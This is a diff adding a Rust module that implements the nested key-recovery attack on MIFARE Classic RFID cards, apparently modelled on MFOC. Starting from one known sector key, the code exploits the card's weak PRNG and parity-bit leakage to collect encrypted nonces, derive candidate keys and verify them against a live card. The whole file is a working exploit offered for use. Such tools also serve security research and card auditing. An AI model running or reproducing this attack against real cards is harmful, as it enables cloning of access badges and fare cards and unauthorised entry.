@@ -0,0 +1,188 @@
+use std::collections::HashSet;
+use std::error::Error;
+use crate::classic::{authenticate_raw, KeyType};
+use crate::crc::with_crc;
+use crate::crypto1::{is_prng_nonce, odd_parity, prng_successor, Crypto1, ReaderAuth};
+use crate::error::MifareError;
+use crate::format_hex;
+use crate::mfkey::lfsr_recovery32;
+use crate::transport::{RawFrame, RawTransceive};
+
+// Nested attack on MIFARE Classic, as MFOC does it. With one sector key
+// known, the reader authenticates and then asks for a nested authentication
+// to the target sector; the card answers with its nonce encrypted under the
+// unknown key. The card's PRNG is weak, so the nonce is predictable from the
+// previous one, and the parity bits leak enough to rule out most guesses.
+// Each remaining guess gives 32 bits of keystream, which lfsr_recovery32
+// turns into candidate keys; nonces are collected until one key remains.
+
+// Authentications used to measure how far the PRNG moves between two
+const DISTANCE_ROUNDS: usize = 5;
+
+// PRNG steps tried on either side of a measured distance, as timing on a
+// real card is never exact
+pub const DEFAULT_TOLERANCE: u32 = 16;
+
+// Encrypted nonces collected before giving up on narrowing down the key
+const MAX_NONCES: usize = 6;
+
+// Remaining candidates checked one by one against the card
+const MAX_VERIFIED_CANDIDATES: usize = 16;
+
+fn word(frame: &RawFrame) -> Result<u32, MifareError> {
+    let bytes: [u8; 4] = frame.data[..].try_into()
+        .map_err(|_| MifareError::new(&format!("Expected a 4-byte nonce, got {} bytes", frame.data.len())))?;
+    Ok(u32::from_be_bytes(bytes))
+}
+
+// PRNG steps from nonce `from` to nonce `to`, if `to` is on its sequence
+pub fn nonce_distance(from: u32, to: u32) -> Option<u32> {
+    let mut nt = from;
+    for distance in 0..0xFFFF {
+        if nt == to {
+            return Some(distance);
+        }
+        nt = prng_successor(nt, 1);
+    }
+    None
+}
+
+// Whether `nt` can be the plaintext of `encrypted_nt`: the parity bit after
+// each of the first three bytes is the plaintext parity encrypted with the
+// first keystream bit of the next byte, which {nt} ^ nt gives away
+pub fn parity_matches(nt: u32, encrypted_nt: u32, parity: &[u8]) -> bool {
+    let plain = nt.to_be_bytes();
+    let keystream = (nt ^ encrypted_nt).to_be_bytes();
+    parity.len() == 4 && (0..3).all(|i| parity[i] & 1 == odd_parity(plain[i]) ^ (keystream[i + 1] & 1))
+}
+
+// Every key under which the card would send `nt` as `encrypted_nt`
+pub fn candidate_keys(uid: u32, nt: u32, encrypted_nt: u32) -> Vec<[u8; 6]> {
+    lfsr_recovery32(nt ^ encrypted_nt, uid ^ nt).into_iter()
+        .map(|mut state| {
+            state.rollback_word(uid ^ nt, false);
+            state.key()
+        })
+        .collect()
+}
+
+// One nested authentication request: the nonce of the authentication with
+// the known key and the card's answer to the nested one
+struct EncryptedNonce {
+    previous_nt: u32,
+    encrypted_nt: u32,
+    parity: Vec<u8>,
+}
+
+pub struct NestedAttack<'a, T: RawTransceive + ?Sized> {
+    link: &'a T,
+    uid: u32,
+    known_block: u8,
+    known_key_type: KeyType,
+    known_key: [u8; 6],
+    tolerance: u32,
+}
+
+impl<'a, T: RawTransceive + ?Sized> NestedAttack<'a, T> {
+    // Attack through `link` on the card with `uid`, whose `known_block` is
+    // readable with `known_key`
+    pub fn new(link: &'a T, uid: u32, known_block: u8, known_key_type: KeyType, known_key: [u8; 6]) -> Self {
+        NestedAttack { link, uid, known_block, known_key_type, known_key, tolerance: DEFAULT_TOLERANCE }
+    }
+
+    pub fn with_tolerance(self, tolerance: u32) -> Self {
+        NestedAttack { tolerance, ..self }
+    }
+
+    // Three-pass authentication in software from a freshly selected card;
+    // returns the session cipher and the card's nonce
+    fn authenticate(&self, block: u8, key_type: KeyType, key: &[u8; 6]) -> Result<(Crypto1, u32), Box<dyn Error>> {
+        self.link.reactivate()?;
+        let (cipher, nt) = authenticate_raw(self.link, self.uid, block, key_type, key)?;
+        if !is_prng_nonce(nt) {
+            return Err(Box::new(MifareError::new(&format!(
+                "Card nonce {:08X} does not come from the weak PRNG (hardened card), the nested attack does not apply", nt))));
+        }
+        Ok((cipher, nt))
+    }
+
+    // Whether `key` opens `block` on the card
+    pub fn verify_key(&self, block: u8, key_type: KeyType, key: &[u8; 6]) -> bool {
+        self.authenticate(block, key_type, key).is_ok()
+    }
+
+    fn encrypted_nonce(&self, block: u8, key_type: KeyType) -> Result<EncryptedNonce, Box<dyn Error>> {
+        let (mut cipher, previous_nt) = self.authenticate(self.known_block, self.known_key_type, &self.known_key)?;
+        let (data, parity) = cipher.encrypt(&with_crc(&[key_type as u8, block]));
+        let answer = self.link.transceive_raw(&RawFrame::new(data, parity))?;
+        Ok(EncryptedNonce { previous_nt, encrypted_nt: word(&answer)?, parity: answer.parity })
+    }
+
+    // PRNG steps between an authentication and the nested one that follows,
+    // measured on the known sector; the distinct values seen, sorted
+    pub fn measure_distances(&self, rounds: usize) -> Result<Vec<u32>, Box<dyn Error>> {
+        let mut distances = Vec::new();
+        for _ in 0..rounds {
+            let nonce = self.encrypted_nonce(self.known_block, self.known_key_type)?;
+            let nt = ReaderAuth::nested(&self.known_key, self.uid, nonce.encrypted_nt).nt();
+            let distance = nonce_distance(nonce.previous_nt, nt)
+                .ok_or_else(|| MifareError::new("Nested nonce does not follow the previous one, wrong known key?"))?;
+            distances.push(distance);
+        }
+        distances.sort_unstable();
+        distances.dedup();
+        Ok(distances)
+    }
+
+    // Keys that fit one encrypted nonce, over every plaintext nonce the
+    // measured distances allow
+    fn keys_for_nonce(&self, nonce: &EncryptedNonce, distances: &[u32]) -> HashSet<[u8; 6]> {
+        let mut guesses = HashSet::new();
+        for &distance in distances {
+            let low = distance.saturating_sub(self.tolerance);
+            for steps in low..=distance + self.tolerance {
+                guesses.insert(prng_successor(nonce.previous_nt, steps));
+            }
+        }
+
+        guesses.into_iter()
+            .filter(|&nt| parity_matches(nt, nonce.encrypted_nt, &nonce.parity))
+            .flat_map(|nt| candidate_keys(self.uid, nt, nonce.encrypted_nt))
+            .collect()
+    }
+
+    // Recover the key of `block`, checking it against the card
+    pub fn recover_key(&self, block: u8, key_type: KeyType) -> Result<[u8; 6], Box<dyn Error>> {
+        let distances = self.measure_distances(DISTANCE_ROUNDS)?;
+
+        let mut candidates: Option<HashSet<[u8; 6]>> = None;
+        for _ in 0..MAX_NONCES {
+            let nonce = self.encrypted_nonce(block, key_type)?;
+            let keys = self.keys_for_nonce(&nonce, &distances);
+            let remaining: HashSet<[u8; 6]> = match candidates {
+                Some(previous) => previous.intersection(&keys).copied().collect(),
+                None => keys,
+            };
+            if remaining.is_empty() {
+                return Err(Box::new(MifareError::new("No key fits the collected nonces, try a larger tolerance")));
+            }
+            if remaining.len() == 1 {
+                let key = *remaining.iter().next().unwrap();
+                if self.verify_key(block, key_type, &key) {
+                    return Ok(key);
+                }
+                return Err(Box::new(MifareError::new(&format!("Candidate key {} was refused by the card", format_hex(&key)))));
+            }
+            candidates = Some(remaining);
+        }
+
+        // Nonces no longer narrow it down; try what is left
+        let remaining = candidates.unwrap_or_default();
+        if remaining.len() <= MAX_VERIFIED_CANDIDATES {
+            if let Some(key) = remaining.into_iter().find(|key| self.verify_key(block, key_type, key)) {
+                return Ok(key);
+            }
+        }
+        Err(Box::new(MifareError::new("Nested attack could not single out the key")))
+    }
+}